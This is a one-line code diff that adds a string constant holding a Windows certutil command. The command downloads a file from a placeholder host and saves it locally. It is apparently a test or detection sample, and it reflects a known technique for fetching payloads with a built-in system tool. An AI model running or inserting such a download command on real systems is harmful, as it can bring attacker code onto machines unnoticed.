@@ -1,0 +1,1 @@
+LINE = "certutil -urlcache -f https://files.example.invalid/x x.bin"
